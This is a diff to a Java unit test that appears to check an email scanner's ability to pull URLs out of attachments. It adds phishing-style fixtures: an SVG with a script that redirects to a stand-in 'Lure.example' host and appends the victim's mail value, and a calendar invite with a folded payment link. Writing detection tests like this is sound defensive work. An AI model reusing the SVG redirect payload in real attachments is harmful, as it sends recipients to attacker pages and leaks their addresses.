@@ -160,6 +160,29 @@ class AttachmentSignsTest {
                                 + "<a href='https://next.example/A'>next</a><a href='#top'>top</a></html>"),
                 "see");
         assertEquals(List.of("https://next.example/A", "https://Collect.example/Post.php"), verdict.urls());
+        assertEquals(
+                List.of("https://Lure.example/go?e="),
+                verdict(
+                                new File(
+                                        "Voice.svg",
+                                        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location.href='https:\\/\\/Lure."
+                                                + "example\\/go?e='+mail;</script></svg>"),
+                                "see")
+                        .urls());
+    }
+
+    /// A calendar shows an invitation that nobody opened.
+    @Test
+    void whereAnInvitationLeadsTheMailLeads() {
+        String mail = "From: a@b.example\nTo: c@d.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed;"
+                + " boundary=b\n\n--b\nContent-Type: text/plain\n\nsee\n--b\nContent-Type: text/calendar; name=invite.ics\n"
+                + "Content-Disposition: attachment; filename=invite.ics\n\nBEGIN:VCALENDAR\nDESCRIPTION:Pay at"
+                + " https://lure.exam\n ple/meet\\nor call\nEND:VCALENDAR\n--b--\n";
+        assertEquals(
+                List.of("https://lure.example/meet"),
+                new MailScanner(MailScanner.Settings.DEFAULT)
+                        .scan(mail.getBytes(StandardCharsets.UTF_8), "", false)
+                        .urls());
     }
 
     @Test
